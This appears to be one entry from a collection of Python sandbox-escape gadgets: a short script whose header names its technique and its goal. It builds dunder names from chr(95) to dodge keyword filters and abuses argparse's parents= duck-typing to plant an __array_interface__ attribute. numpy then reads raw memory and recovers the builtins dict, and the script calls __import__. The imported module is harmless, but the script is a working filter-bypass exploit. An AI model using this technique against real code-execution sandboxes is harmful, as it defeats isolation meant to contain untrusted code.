# source: CPython argparse.ArgumentParser.__init__ (parents=: _add_container_actions(parent) and self._defaults.update(parent._defaults), duck-typed) and parse_known_args (setattr(namespace, dest, default)); numpy array coercion reading __array_interface__ off the instance (PyArray_FromInterface)
# family: argparse parents= duck-typed container: _defaults keys become setattr names on the Namespace (dest never written as a literal) -> __array_interface__ -> object array over a function's func_builtins
# goal: gets the builtins dict from raw memory and calls __import__('this')
import argparse
import numpy as np

u = chr(95) * 2


def probe():
    return 0


addr = int(repr(probe).split()[-1].rstrip(">"), 16)
spec = {"data": (addr + 24, False), "shape": (1,), "typestr": "|O", "version": 3}


class Parent:
    def __init__(self):
        self._action_groups = []
        self._mutually_exclusive_groups = []
        self._actions = []
        self._defaults = {u + "array" + chr(95) + "interface" + u: spec}


p = argparse.ArgumentParser(parents=[Parent()])
ns = p.parse_args([])
cell = np.asarray(ns)
table = cell[0]
print(type(table), len(table))
table[u + "import" + u]("this")
